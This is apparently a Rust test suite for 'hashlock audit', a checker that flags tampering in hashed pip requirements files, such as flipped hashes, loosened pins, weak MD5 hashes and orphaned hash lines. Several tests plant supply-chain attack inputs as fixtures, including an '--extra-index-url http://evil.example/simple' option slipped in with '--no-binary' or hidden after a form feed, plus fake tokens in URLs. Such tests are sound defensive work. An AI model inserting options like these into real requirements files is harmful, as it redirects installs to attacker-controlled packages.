//! `hashlock audit` on a file `hashlock generate` wrote for a synthetic tree: clean as written,
//! and each planted fault is caught, named with file and line, with exit status 1. Garbage
//! input exits 2 with one line naming the file and line.

mod support;

use support::{File, IndexServer, LockFile, Ran, Registry, build, generate, hashlock_at};

/// `app` → `lib` (three wheels and an sdist) → `core`; `tool` stands alone.
fn tree() -> Registry {
    support::layered_tree()
}

/// A directory holding `requirements.txt` as `hashlock generate app` writes it.
struct Workspace {
    server: IndexServer,
    dir: tempfile::TempDir,
    text: String,
}

impl Workspace {
    fn new(registry: Registry) -> Self {
        let server = IndexServer::start(registry);
        let dir = tempfile::tempdir().unwrap();
        generate(&server.index_url(), &["app", "-o", "requirements.txt"]).current_dir(dir.path()).assert().success();
        let text = std::fs::read_to_string(dir.path().join("requirements.txt")).unwrap();
        LockFile::parse(&text);
        Self { server, dir, text }
    }

    /// Audits `text` written as `requirements.txt`.
    fn audit(&self, text: &str, args: &[&str]) -> Ran {
        std::fs::write(self.dir.path().join("requirements.txt"), text).unwrap();
        let mut command = hashlock_at("audit", &self.server.index_url(), &["requirements.txt"]);
        command.args(args).current_dir(self.dir.path());
        Ran::of(&mut command, &[self.dir.path()])
    }
}

/// One finding as `(code, package, location)`.
type Found = (String, String, String);

/// Audits `text` in every format; all three name the same findings, JSON follows the schema.
/// Returns the exit status and the findings from the JSON form.
fn audit_all_formats(ws: &Workspace, text: &str, args: &[&str]) -> (i32, Vec<Found>) {
    let json = ws.audit(text, &[args, &["--format", "json"]].concat());
    let value = json.json();
    let packages = value["packages"].as_array().into_iter().flatten().flat_map(|p| p["findings"].as_array());
    let found: Vec<Found> = packages
        .flatten()
        .chain(value["findings"].as_array().into_iter().flatten())
        .map(|f| {
            let field = |key: &str| f[key].as_str().unwrap_or_default().to_string();
            (field("code"), field("package"), field("location"))
        })
        .collect();
    for format in ["text", "markdown"] {
        let ran = ws.audit(text, &[args, &["--format", format]].concat());
        assert_eq!(ran.code, json.code, "{format} exits as json does");
        for (code, _, location) in &found {
            let shown = if location.is_empty() { code.clone() } else { location.clone() };
            assert!(
                ran.stdout.contains(code) && ran.stdout.contains(&shown),
                "{format} shows {code} at {shown}:\n{}",
                ran.stdout
            );
        }
    }
    (json.code, found)
}

/// The 1-based number of the first line of `text` that contains `needle`.
fn line_of(text: &str, needle: &str) -> usize {
    text.lines().position(|l| l.contains(needle)).unwrap_or_else(|| panic!("no {needle:?} in:\n{text}")) + 1
}

/// `requirements.txt:N`
fn at(line: usize) -> String {
    format!("requirements.txt:{line}")
}

fn assert_found(found: &[Found], code: &str, package: &str, location: &str) {
    assert!(
        found.iter().any(|(c, p, l)| c == code && p == package && l == location),
        "expected {code} for {package:?} at {location}, found {found:#?}"
    );
}

/// The `--hash` line of the file of `filename`, as written.
fn hash_line(ws: &Workspace, filename: &str) -> String {
    let registry = ws.server.registry();
    let hex = &registry.file(filename).unwrap_or_else(|| panic!("no {filename}")).hashes["sha256"];
    ws.text.lines().find(|l| l.contains(hex.as_str())).unwrap_or_else(|| panic!("no hash of {filename}")).to_string()
}

/// Removes one line; if it ended a continuation, the line before it now ends it.
fn remove_line(text: &str, line: &str) -> String {
    let mut lines: Vec<String> = text.lines().map(str::to_string).collect();
    let index = lines.iter().position(|l| l == line).unwrap_or_else(|| panic!("no line {line:?}"));
    let removed = lines.remove(index);
    if !removed.ends_with('\\') {
        let before = &mut lines[index - 1];
        *before = before.trim_end_matches('\\').trim_end().to_string();
    }
    lines.join("\n") + "\n"
}

const LINUX_WHEEL: &str = "lib-1.0-cp311-cp311-manylinux_2_17_x86_64.whl";
const WINDOWS_WHEEL: &str = "lib-1.0-cp311-cp311-win_amd64.whl";

#[test]
fn the_generated_file_is_clean() {
    let ws = Workspace::new(tree());
    let (code, found) = audit_all_formats(&ws, &ws.text.clone(), &[]);
    assert_eq!((code, found), (0, Vec::new()));
    let ran = ws.audit(&ws.text, &[]);
    insta::assert_snapshot!("clean_text", ran.stdout);
}

#[test]
fn a_flipped_hex_digit_is_a_hash_mismatch() {
    let ws = Workspace::new(tree());
    let line = hash_line(&ws, WINDOWS_WHEEL);
    let digit = line.len() - 10;
    let flipped = if &line[digit..=digit] == "0" { "1" } else { "0" };
    let tampered = ws.text.replace(&line, &format!("{}{flipped}{}", &line[..digit], &line[digit + 1..]));
    let (code, found) = audit_all_formats(&ws, &tampered, &[]);
    assert_eq!(code, 1);
    assert_found(&found, "hash-mismatch", "lib", &at(line_of(&ws.text, &line)));
    assert_found(&found, "incomplete-hashes", "lib", &at(line_of(&ws.text, "lib==1.0")));
}

#[test]
fn a_removed_transitive_dependency_is_missing() {
    let ws = Workspace::new(tree());
    let start = ws.text.find("core==2.0").unwrap();
    let end = ws.text.find("lib==1.0").unwrap();
    let without_core = format!("{}{}", &ws.text[..start], &ws.text[end..]);
    let (code, found) = audit_all_formats(&ws, &without_core, &[]);
    assert_eq!(code, 1);
    assert_found(&found, "missing-dependency", "core", &at(line_of(&without_core, "lib==1.0")));
    assert_eq!(found.len(), 1, "{found:#?}");
}

#[test]
fn a_loosened_pin_is_unpinned() {
    let ws = Workspace::new(tree());
    let loosened = ws.text.replace("tool==1.0", "tool>=1.0");
    let (code, found) = audit_all_formats(&ws, &loosened, &[]);
    assert_eq!(code, 1);
    assert_found(&found, "unpinned", "tool", &at(line_of(&loosened, "tool>=1.0")));
}

#[test]
fn a_removed_hash_line_is_incomplete_and_an_error_when_the_target_needs_it() {
    let ws = Workspace::new(tree());
    let lib = at(line_of(&ws.text, "lib==1.0"));

    let (code, found) = audit_all_formats(&ws, &remove_line(&ws.text, &hash_line(&ws, WINDOWS_WHEEL)), &[]);
    assert_eq!((code, found.len()), (1, 1), "{found:#?}");
    assert_found(&found, "incomplete-hashes", "lib", &lib);
    let ran = ws.audit(&remove_line(&ws.text, &hash_line(&ws, WINDOWS_WHEEL)), &["--format", "json"]);
    let finding = &ran.json()["packages"][2]["findings"][0];
    assert_eq!(finding["severity"], "warning", "Linux still installs: {finding}");
    assert!(finding["message"].as_str().unwrap().contains("win_amd64"), "names the platform that breaks: {finding}");
    let (code, _) =
        audit_all_formats(&ws, &remove_line(&ws.text, &hash_line(&ws, WINDOWS_WHEEL)), &["--fail-on", "error"]);
    assert_eq!(code, 0, "a warning passes --fail-on error");

    let ran =
        ws.audit(&remove_line(&ws.text, &hash_line(&ws, LINUX_WHEEL)), &["--format", "json", "--fail-on", "error"]);
    assert_eq!(ran.code, 1, "the target's own wheel lost its hash:\n{}", ran.stdout);
    let finding = &ran.json()["packages"][2]["findings"][0];
    assert_eq!((finding["code"].as_str(), finding["severity"].as_str()), (Some("incomplete-hashes"), Some("error")));
    assert!(finding["message"].as_str().unwrap().contains("manylinux_2_17_x86_64"), "{finding}");
}

#[test]
fn a_comment_between_a_requirement_and_its_hashes_orphans_them() {
    let ws = Workspace::new(tree());
    let cut = ws.text.replace("tool==1.0 \\\n", "tool==1.0 \\\n    # pinned by hand\n");
    let (code, found) = audit_all_formats(&ws, &cut, &[]);
    assert_eq!(code, 1);
    assert_found(&found, "orphaned-hash", "tool", &at(line_of(&cut, "# pinned by hand") + 1));
    let ran = ws.audit(&cut, &[]);
    insta::assert_snapshot!("orphaned_text", ran.stdout);
}

#[test]
fn an_md5_hash_is_weak() {
    let ws = Workspace::new(tree());
    let line = hash_line(&ws, "tool-1.0-py3-none-any.whl");
    let md5 = format!("    --hash=md5:{}", "0123456789abcdef".repeat(2));
    let weak = ws.text.replace(&line, &md5);
    let (code, found) = audit_all_formats(&ws, &weak, &[]);
    assert_eq!(code, 1);
    assert_found(&found, "weak-hash-only", "tool", &at(line_of(&weak, "--hash=md5:")));
}

/// A wheel uploaded to an existing version after the file was written: pip fails wherever it
/// picks that wheel. An error when the target itself picks it.
#[test]
fn a_new_upload_to_a_pinned_version_leaves_the_file_incomplete() {
    let ws = Workspace::new(tree());
    let upload = |tags: &str| {
        let spec = build::WheelSpec { name: "tool", version: "1.0", tags, ..Default::default() };
        ws.server.add_file("tool", File::built(spec.build(), "1.0"));
    };
    let tool = at(line_of(&ws.text, "tool==1.0"));

    upload("cp311-cp311-win_amd64");
    let (code, found) = audit_all_formats(&ws, &ws.text.clone(), &[]);
    assert_eq!(code, 1);
    assert_eq!(found, vec![("incomplete-hashes".to_string(), "tool".to_string(), tool.clone())]);
    let (code, _) = audit_all_formats(&ws, &ws.text.clone(), &["--fail-on", "error"]);
    assert_eq!(code, 0, "Windows breaks, the Linux target does not");

    upload("cp311-cp311-manylinux_2_17_x86_64");
    let ran = ws.audit(&ws.text, &["--format", "json", "--fail-on", "error"]);
    assert_eq!(ran.code, 1, "the target now picks the new wheel, whose hash the file lacks:\n{}", ran.stdout);
    let finding = &ran.json()["packages"][3]["findings"][0];
    assert_eq!(finding["severity"], "error", "{finding}");
    assert!(finding["message"].as_str().unwrap().contains("manylinux_2_17_x86_64"), "{finding}");
}

/// Unreadable or malformed input: exit 2, one line on stderr naming the file and line, no output.
#[test]
fn garbage_exits_2_naming_file_and_line() {
    let server = IndexServer::start(tree());
    let dir = tempfile::tempdir().unwrap();
    let cases: [(&str, &[u8], &str); 3] = [
        ("binary", b"\x7fELF\x02\x01\x01\x00\xff\xfe\x00\x00\x93\n", "requirements.txt"),
        ("malformed specifier", b"# fine\ntool==1.0\nlib>=>1\n", "requirements.txt:3"),
        ("bad hash", b"tool==1.0 \\\n    --hash=sha256:not-hex\n", "requirements.txt:2"),
    ];
    for (what, bytes, needle) in cases {
        std::fs::write(dir.path().join("requirements.txt"), bytes).unwrap();
        let mut command = hashlock_at("audit", &server.index_url(), &["requirements.txt"]);
        let ran = Ran::of(command.current_dir(dir.path()), &[]);
        assert_eq!(ran.code, 2, "{what}: {}", ran.stderr);
        assert_eq!(ran.stderr.trim_end().lines().count(), 1, "{what}: one line:\n{}", ran.stderr);
        assert!(ran.stderr.contains(needle), "{what}: names {needle}:\n{}", ran.stderr);
        assert!(ran.stdout.is_empty(), "{what}: {}", ran.stdout);
    }
    let ran = Ran::of(hashlock_at("audit", &server.index_url(), &["no-such-file.txt"]).current_dir(dir.path()), &[]);
    assert_eq!(ran.code, 2);
    assert!(ran.stderr.contains("no-such-file.txt: cannot read: "), "{}", ran.stderr);
    // The OS error is said once, not once per layer of the error.
    assert_eq!(ran.stderr.matches("os error").count(), 1, "{}", ran.stderr);
}

#[test]
fn a_lock_with_no_packages_is_a_warning_not_all_clear() {
    let server = IndexServer::start(tree());
    let dir = tempfile::tempdir().unwrap();
    for text in ["", "# only a comment\n\n"] {
        std::fs::write(dir.path().join("requirements.txt"), text).unwrap();
        let mut command = hashlock_at("audit", &server.index_url(), &["requirements.txt", "--format", "json"]);
        let ran = Ran::of(command.current_dir(dir.path()), &[]);
        assert_eq!(ran.code, 1, "{}", ran.stdout);
        let findings = ran.json()["findings"].clone();
        assert_eq!(findings[0]["code"], "empty-lock", "{findings}");
        assert_eq!(findings[0]["severity"], "warning", "{findings}");
        let mut command = hashlock_at("audit", &server.index_url(), &["requirements.txt", "--fail-on", "error"]);
        assert_eq!(Ran::of(command.current_dir(dir.path()), &[]).code, 0, "a warning, below --fail-on error");
    }
}

/// pip expands `${VAR}` in requirements files, and tokens live there: no report may echo one.
#[test]
fn credentials_from_the_environment_never_reach_the_report() {
    let ws = Workspace::new(tree());
    let text = format!("{}privpkg @ git+https://${{HL_TEST_TOKEN}}@git.example/org/priv.git\n", ws.text);
    std::fs::write(ws.dir.path().join("requirements.txt"), text).unwrap();
    for format in ["text", "json", "markdown"] {
        let mut command = hashlock_at("audit", &ws.server.index_url(), &["requirements.txt", "--format", format]);
        command.env("HL_TEST_TOKEN", "ghp_SECRET").current_dir(ws.dir.path());
        let ran = Ran::of(&mut command, &[ws.dir.path()]);
        assert_eq!(ran.code, 1, "{format}: the URL requirement is unhashable\n{}", ran.stdout);
        // Markdown shows `***` escaped, so that it opens no emphasis.
        let redacted = if format == "markdown" { r"https://\*\*\*@git.example" } else { "https://***@git.example" };
        assert!(ran.stdout.contains("unhashable") && ran.stdout.contains(redacted), "{}", ran.stdout);
        assert!(!ran.stdout.contains("ghp_SECRET") && !ran.stderr.contains("ghp_SECRET"), "{format}:\n{}", ran.stdout);
    }
}

/// Stripping every `--hash` is the simplest tampering: each requirement is an error.
#[test]
fn a_file_with_no_hashes_at_all_fails() {
    let ws = Workspace::new(tree());
    let pins: String = support::LockFile::parse(&ws.text).pins().iter().map(|(n, v)| format!("{n}=={v}\n")).collect();
    let (code, found) = audit_all_formats(&ws, &pins, &["--fail-on", "error"]);
    assert_eq!(code, 1, "{found:#?}");
    for (line, name) in pins.lines().enumerate() {
        let name = name.split("==").next().unwrap();
        assert_found(&found, "unhashed-requirement", name, &at(line + 1));
    }
}

/// The attack of issue 8, item 4: options prepended to a hashed file make pip build the sdist
/// with whatever another index serves. Each is a finding at its line; `--no-binary` and
/// `--only-binary` change what the target installs.
#[test]
fn options_that_change_what_pip_fetches_or_builds_are_findings() {
    let ws = Workspace::new(tree().with([support::Release::new("plain", "1.0").sdist_only()]));
    let evil = "--no-binary lib\n--extra-index-url http://evil.example/simple\n";
    let text = format!("{evil}{}", ws.text);
    let (code, found) = audit_all_formats(&ws, &text, &["--fail-on", "error"]);
    assert_eq!(code, 1, "{found:#?}");
    assert_found(&found, "file-option", "", &at(1));
    assert_found(&found, "file-option", "", &at(2));
    assert_found(&found, "sdist-only", "lib", &at(line_of(&text, "lib==1.0")));
    let json = ws.audit(&text, &["--format", "json"]).json();
    let severity = |line: usize| {
        let finding = json["findings"].as_array().unwrap().iter().find(|f| f["location"] == at(line).as_str());
        finding.map(|f| f["severity"].as_str().unwrap().to_string())
    };
    assert_eq!((severity(1).as_deref(), severity(2).as_deref()), (Some("warning"), Some("error")));
    // The package table says what pip will do too: build lib from its sdist.
    let lib = json["packages"].as_array().unwrap().iter().find(|p| p["name"] == "lib").unwrap();
    assert_eq!((&lib["target_file"], &json["summary"]["sdist_only"]), (&"sdist-only".into(), &1.into()), "{lib:#}");

    // Options hashlock generate refuses are findings here, so that the audit reports everything;
    // build options of one requirement too.
    let plain = ws.server.registry().sha256s("plain", "1.0").into_iter().next().unwrap();
    let text = format!(
        "--only-binary :all:\n--pre\n--trusted-host 127.0.0.1\n--find-links ./wheels\n--no-index\n{}plain==1.0 --hash=sha256:{plain}\n",
        ws.text.replace("tool==1.0 \\\n", "tool==1.0 --config-settings k=v --global-option=x \\\n")
    );
    let (code, found) = audit_all_formats(&ws, &text, &[]);
    assert_eq!(code, 1, "{found:#?}");
    for line in 1..=5 {
        assert_found(&found, "file-option", "", &at(line));
    }
    assert_eq!(found.iter().filter(|(c, p, _)| c == "file-option" && p == "tool").count(), 2, "{found:#?}");
    assert_found(&found, "no-file-for-target", "plain", &at(line_of(&text, "plain==1.0")));
}

/// pip splits lines as Python's `str.splitlines` does: a form feed inside a requirement line
/// starts an option line, which audit must see as pip does.
#[test]
fn an_option_after_a_form_feed_is_a_finding() {
    let ws = Workspace::new(tree());
    let text = ws.text.replace(
        "tool==1.0 \\\n",
        "tool==1.0 ; python_version > '3' \x0c--extra-index-url http://evil.example/simple \\\n",
    );
    assert_ne!(text, ws.text);
    let ran = ws.audit(&text, &["--format", "json"]);
    assert_eq!(ran.code, 1, "{}", ran.stdout);
    let findings = ran.json()["findings"].clone();
    let option = findings.as_array().unwrap().iter().find(|f| f["code"] == "file-option");
    let message = option.unwrap_or_else(|| panic!("no file-option in {findings}"))["message"].as_str().unwrap();
    assert!(message.contains("--extra-index-url http://evil.example/simple"), "{message}");
}

/// Tokens in `${VAR}` never reach a message: not in an error quoting the line, not in a finding.
#[test]
fn expanded_variables_never_reach_errors_or_findings() {
    let ws = Workspace::new(tree());
    let run = |text: &str, format: &str| {
        std::fs::write(ws.dir.path().join("requirements.txt"), text).unwrap();
        let mut command = hashlock_at("audit", &ws.server.index_url(), &["requirements.txt", "--format", format]);
        command.env("HL_TEST_TOKEN", "abcdef0123456789").env("HL_GL_TOKEN", "glpat-SECRET").current_dir(ws.dir.path());
        Ran::of(&mut command, &[ws.dir.path()])
    };
    let remote = format!("{}-r https://ci:${{HL_GL_TOKEN}}@127.0.0.1:9/req.txt\n", ws.text);
    let not_hex = "tool==1.0 --hash=sha256:${HL_GL_TOKEN}\n";
    for text in [remote.as_str(), not_hex] {
        let ran = run(text, "text");
        assert_eq!(ran.code, 2, "{}", ran.stderr);
        assert!(ran.stderr.contains("requirements.txt:") && !ran.stderr.contains("SECRET"), "{}", ran.stderr);
    }
    let hex = ws.text.replace("tool==1.0 \\\n", "tool==1.0 --hash=sha256:${HL_TEST_TOKEN} \\\n");
    for format in ["text", "json", "markdown"] {
        let ran = run(&hex, format);
        assert_eq!(ran.code, 1, "{format}: a hash-mismatch\n{}", ran.stdout);
        assert!(ran.stdout.contains("hash-mismatch") && ran.stdout.contains("${HL_TEST_TOKEN}"), "{}", ran.stdout);
        assert!(!ran.stdout.contains("abcdef0123456789") && !ran.stderr.contains("abcdef0123456789"), "{}", ran.stdout);
    }
}
